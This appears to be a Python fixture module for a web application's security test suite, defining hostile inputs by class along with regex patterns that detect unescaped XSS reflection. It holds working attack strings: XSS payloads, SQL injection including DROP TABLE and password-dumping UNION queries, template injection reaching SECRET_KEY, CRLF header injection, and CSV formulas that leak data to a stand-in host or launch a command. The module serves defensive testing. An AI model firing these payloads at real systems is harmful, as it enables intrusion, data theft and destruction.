"""The hostile inputs of the battery (tests/security/test_hostile_inputs.py) and of the
browser check (tests/e2e/test_hostile_browser.py), by class.

Every XSS payload carries its own marker (`tvx01`, `tvx02`…) and says what must never be
found in an HTML response if the payload came back unescaped (`danger`): the raw tag, the raw
attribute break or the `javascript:` URL inside an attribute, never the marker alone (an
escaped reflection, `&lt;script&gt;alert(&#x27;tvx01&#x27;)`, is harmless and allowed).

A `Raw` value is already percent-encoded and goes into the query string or the urlencoded body
as it is (broken UTF-8, overlong forms); in a multipart body it is sent as the bytes it
encodes."""

import re
from dataclasses import dataclass
from urllib.parse import unquote_to_bytes


@dataclass(frozen=True)
class Raw:
    """A percent-encoded value sent verbatim (no second encoding)."""

    encoded: str

    def as_bytes(self) -> bytes:
        return unquote_to_bytes(self.encoded)


@dataclass(frozen=True)
class Payload:
    kind: str  # the class of input: xss, big, nul, crlf, unicode, sql, template, encoding
    name: str
    value: object  # str or Raw
    # Regular expressions (case-insensitive), none of which may match an HTML response.
    danger: tuple = ()

    @property
    def marker(self):
        match = re.search(r"tvx\d\d", self.value if isinstance(self.value, str) else "")
        return match.group(0) if match else ""


def _xss(number, value, *dangers):
    return Payload("xss", f"tvx{number:02d}", value, tuple(d for d in dangers if d))


def _tag(text):
    """A danger pattern for a payload's raw start, whitespace-tolerant."""
    return r"\s*".join(re.escape(part) for part in text.split(" "))


def _js_url(marker):
    # A `javascript:` URL that reached an attribute a browser follows or loads.
    return (
        r"""(?:href|src|action|formaction|data|xlink:href)\s*=\s*["']?\s*javascript:"""
        rf"""alert\(\s*(?:'|&#x27;|&#39;|")?{marker}"""
    )


XSS = [
    _xss(1, "<script>alert('tvx01')</script>", _tag("<script>alert('tvx01'")),
    _xss(2, "\"><script>alert('tvx02')</script>", _tag("<script>alert('tvx02'")),
    _xss(3, "'><img src=x onerror=alert('tvx03')>", _tag("<img src=x onerror=alert('tvx03'")),
    _xss(4, "\"><img src=x onerror=alert('tvx04')>", _tag("<img src=x onerror=alert('tvx04'")),
    _xss(5, "<svg onload=alert('tvx05')>", _tag("<svg onload=alert('tvx05'")),
    _xss(6, "<svg><script>alert('tvx06')</script></svg>", _tag("<svg><script>alert('tvx06'")),
    _xss(7, "javascript:alert('tvx07')", _js_url("tvx07")),
    _xss(8, "JaVaScRiPt:alert('tvx08')//", _js_url("tvx08")),
    _xss(9, "\" autofocus onfocus=\"alert('tvx09')", _tag('" autofocus onfocus="alert(')),
    _xss(10, "' autofocus onfocus='alert(10)//tvx10", _tag("' autofocus onfocus='alert(10)")),
    _xss(
        11,
        "<a href=\"javascript:alert('tvx11')\">tvx11</a>",
        _tag("<a href=\"javascript:alert('tvx11'"),
    ),
    _xss(
        12,
        "<iframe src=\"javascript:alert('tvx12')\"></iframe>",
        _tag("<iframe src=\"javascript:alert('tvx12'"),
    ),
    _xss(
        13,
        "</script><script>alert('tvx13')</script>",
        _tag("</script><script>alert('tvx13'"),
    ),
    _xss(14, "<body onload=alert('tvx14')>", _tag("<body onload=alert('tvx14'")),
    _xss(
        15,
        "<details open ontoggle=alert('tvx15')>",
        _tag("<details open ontoggle=alert('tvx15'"),
    ),
    _xss(16, "<svg/onload=alert('tvx16')>", _tag("<svg/onload=alert('tvx16'")),
    _xss(
        17,
        "data:text/html,<script>alert('tvx17')</script>",
        _tag("<script>alert('tvx17'"),
    ),
    _xss(18, "<SCRIPT SRC=//tvx18.example/x.js></SCRIPT>", _tag("<SCRIPT SRC=//tvx18")),
    _xss(
        19,
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('tvx19')>",
        _tag("<img src=x onerror=alert('tvx19'"),
    ),
    _xss(20, "<input onfocus=alert('tvx20') autofocus>", _tag("<input onfocus=alert('tvx20'")),
    _xss(21, "<x onclick=alert('tvx21')>tvx21</x>", _tag("<x onclick=alert('tvx21'")),
    _xss(
        22,
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'tvx22\')"/>',
        _tag('<svg xmlns="http://www.w3.org/2000/svg" onload="alert('),
    ),
    _xss(
        23,
        "<object data=\"javascript:alert('tvx23')\"></object>",
        _tag('<object data="javascript:alert('),
        _js_url("tvx23"),
    ),
    _xss(
        24,
        "<form action=\"javascript:alert('tvx24')\"><button>tvx24</button></form>",
        _tag('<form action="javascript:alert('),
        _js_url("tvx24"),
    ),
    _xss(
        25,
        "<img src=x onerror=alert&#40;'tvx25'&#41;>",
        _tag("<img src=x onerror=alert&#40;'tvx25'"),
    ),
    _xss(26, "<<script>alert('tvx26');//<</script>", _tag("<script>alert('tvx26'")),
    _xss(
        27,
        "<svg><animate onbegin=alert('tvx27') attributeName=x dur=1s>",
        _tag("<animate onbegin=alert('tvx27'"),
    ),
    _xss(
        28,
        "<style>@import 'http://tvx28.example/x.css';</style>",
        _tag("<style>@import 'http://tvx28"),
    ),
    _xss(
        29,
        '<meta http-equiv="refresh" content="0;url=javascript:alert(\'tvx29\')">',
        _tag('<meta http-equiv="refresh"') + r"[^>]*tvx29",
    ),
    _xss(30, "+ADw-script+AD4-alert('tvx30')+ADw-/script+AD4-"),  # UTF-7: charset checked
]

MEGABYTE = 1024 * 1024
BIG = [
    Payload("big", "1MB-ascii", "A" * MEGABYTE),
    Payload("big", "1MB-utf8", "é" * (MEGABYTE // 2)),
    Payload("big", "1MB-tags", "<tvxbig>" * (MEGABYTE // 8), (r"<tvxbig>",)),
]

NUL = [
    Payload("nul", "nul", "\x00"),
    Payload("nul", "nul-inside", "Cam\x00ille"),
    Payload("nul", "nul-many", "\x00" * 64),
    Payload("nul", "nul-encoded", Raw("tvx%00nul")),
    Payload("nul", "nul-literal", "%00"),
    Payload("nul", "c0-controls", "".join(chr(c) for c in range(1, 32)) + "\x7f"),
]

CRLF = [
    Payload("crlf", "crlf-header", "tvx\r\nX-Tvx-Injected: 1"),  # headers checked apart
    Payload(
        "crlf",
        "crlf-body",
        "tvx\r\n\r\n<script>alert('tvx31')</script>",
        (_tag("<script>alert('tvx31'"),),
    ),
    Payload("crlf", "crlf-encoded", Raw("tvx%0d%0aSet-Cookie:%20tvx=1")),
    Payload("crlf", "cr", "tvx\rcr"),
    Payload("crlf", "lf", "tvx\nlf"),
    Payload("crlf", "unicode-separators", "tvx\u2028\u2029\u0085sep"),
    Payload("crlf", "bcc-injection", "camille@example.org\r\nBcc: tvx@example.org"),
]

UNICODE = [
    Payload("unicode", "homoglyph-email", "c\u0430mille@ex\u0430mple.org"),  # Cyrillic а
    Payload("unicode", "homoglyph-name", "Ме\u04cfun"),  # Cyrillic Ме and palochka
    Payload("unicode", "rtl-override", "\u202eelpmaxe@olleh\u202c"),
    Payload("unicode", "zero-width", "Ca\u200bmi\u200dlle\u2060\ufeff"),
    Payload("unicode", "bom", "\ufeffMelun"),
    Payload("unicode", "fullwidth", "\uff2d\uff45\uff4c\uff55\uff4e"),
    Payload("unicode", "fullwidth-digits", "\uff17\uff17\uff10\uff10\uff10"),
    Payload("unicode", "fullwidth-tag", "\uff1cscript\uff1ealert('tvx32')\uff1c/script\uff1e"),
    Payload("unicode", "combining", "Z\u0338\u0322\u031b\u0317\u034e" * 40),
    Payload("unicode", "emoji", "🙂👩🏽‍🦰🇫🇷" * 10),
    Payload("unicode", "math-letters", "𝓜𝓮𝓵𝓾𝓷"),
    Payload("unicode", "tag-characters", "Melun\U000e0041\U000e0042"),
    Payload("unicode", "idn-email", "camille@xn--exmple-cua.org"),
    Payload("unicode", "private-use", "\ue000\uf8ff"),
]

SQL = [
    Payload("sql", "or-true", "' OR '1'='1"),
    Payload("sql", "or-comment", "' OR 1=1 --"),
    Payload("sql", "drop", '"; DROP TABLE volunteers_volunteer; --'),
    Payload("sql", "union", "1' UNION SELECT username, password FROM auth_user --"),
    Payload("sql", "like-wildcards", "%_%"),
    Payload("sql", "stacked", "1; SELECT 1"),
    Payload("sql", "quote", "'"),
    Payload("sql", "double-quote", '"'),
    Payload("sql", "unbalanced-phrase", '"melun'),
    Payload("sql", "fts-near", "NEAR(melun brest"),
    Payload("sql", "fts-operators", "melun AND OR NOT"),
    Payload("sql", "fts-star", "*"),
    Payload("sql", "fts-column", "title:melun"),
    Payload("sql", "fts-caret", "^melun -brest +x"),
    Payload("sql", "backslash", "\\"),
    Payload("sql", "huge-number", "99999999999999999999999999"),
    Payload("sql", "negative", "-1"),
    Payload("sql", "float-nan", "NaN"),
    Payload("sql", "hex", "0x7fffffff"),
    Payload("sql", "parens", "((((((((((melun"),
]

TEMPLATE = [
    Payload("template", "django-var", "{{ 7*7 }}"),
    Payload("template", "django-tag", "{% debug %}"),
    Payload("template", "django-secret", "{{ settings.SECRET_KEY }}"),
    Payload("template", "django-load", "{% load log %}{% get_admin_log 10 as log %}"),
    Payload("template", "dollar", "${7*7}"),
    Payload("template", "ruby", "#{7*7}"),
    Payload("template", "erb", "<%= 7*7 %>"),
    Payload("template", "format", "{prenom}{lien}{0.__class__}"),
    Payload("template", "printf", "%s%s%s%n%x"),
    Payload("template", "brevo-merge", "{{ params.email }}{{ contact.EMAIL }}"),
    Payload(
        "template",
        "angular",
        "{{constructor.constructor('alert(\"tvx33\")')()}}",
    ),
    Payload("template", "jinja-class", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
]

ENCODING = [
    Payload("encoding", "invalid-continuation", Raw("tvx%C3%28")),
    Payload("encoding", "lone-ff", Raw("%FF")),
    Payload("encoding", "overlong-slash", Raw("%C0%AF")),
    Payload("encoding", "overlong-3", Raw("%E0%80%AF")),
    Payload("encoding", "surrogate", Raw("%ED%A0%80")),
    Payload("encoding", "five-byte", Raw("%F8%88%80%80%80")),
    Payload("encoding", "bom-utf16", Raw("%FE%FF%00%3C")),
    Payload("encoding", "truncated", Raw("%C3")),
    Payload("encoding", "bad-escape", Raw("%zz%")),
    Payload("encoding", "iis-unicode", Raw("%u003Cscript%u003Ealert(34)")),
    Payload("encoding", "overlong-lt", Raw("%C0%BCscript%C0%BEalert('tvx35')")),
]

# Spreadsheet formulas (CSV injection): harmless on a page, run by a spreadsheet that opens
# an export.
FORMULA = [
    Payload("formula", "hyperlink", '=HYPERLINK("http://tvx.example/?leak="&A1,"Camille")'),
    Payload("formula", "plus", "+1+1"),
    Payload("formula", "minus", "-2+3+cmd|' /C calc'!A0"),
    Payload("formula", "at", "@SUM(1,1)"),
    Payload("formula", "tab", "\t=1+1"),
]

CLASSES = {
    "xss": XSS,
    "big": BIG,
    "nul": NUL,
    "crlf": CRLF,
    "unicode": UNICODE,
    "sql": SQL,
    "template": TEMPLATE,
    "encoding": ENCODING,
    "formula": FORMULA,
}
ALL = [payload for payloads in CLASSES.values() for payload in payloads]
# Every XSS marker's danger at once, to read any page (including those that show stored
# values). Split in two so that a 1 MB page is scanned fast: raw tags and attribute breaks
# (they start with <, " or '), then `javascript:` / `data:` URLs in attributes, looked for
# only when the page holds such a scheme at all.
_DANGERS = [danger for p in ALL for danger in p.danger]
_URL_DANGERS = [d for d in _DANGERS if d.startswith("(?:href")]
_TAG_DANGERS = [d for d in _DANGERS if not d.startswith("(?:href")]
TAG_DANGERS = re.compile(
    r"""(?=[<"'])(?:""" + "|".join(f"(?:{d})" for d in _TAG_DANGERS if d) + ")",
    re.IGNORECASE,
)
URL_DANGERS = re.compile(
    "|".join(f"(?:{d})" for d in _URL_DANGERS),
    re.IGNORECASE,
)


def find_danger(text):
    """The first unescaped payload in `text` (a match), or None."""
    match = TAG_DANGERS.search(text)
    if match:
        return match
    lowered = text.lower()
    if "javascript:" in lowered or "data:" in lowered:
        return URL_DANGERS.search(text)
    return None


def smaller(payloads=ALL):
    """The payloads without the 1 MB ones (for fields where one of each class is enough, and
    for the browser)."""
    return [p for p in payloads if p.kind != "big"]


def browser_payloads():
    """XSS payloads whose success is a dialog: alert() with the marker."""
    return [p for p in XSS if "alert(" in str(p.value)]
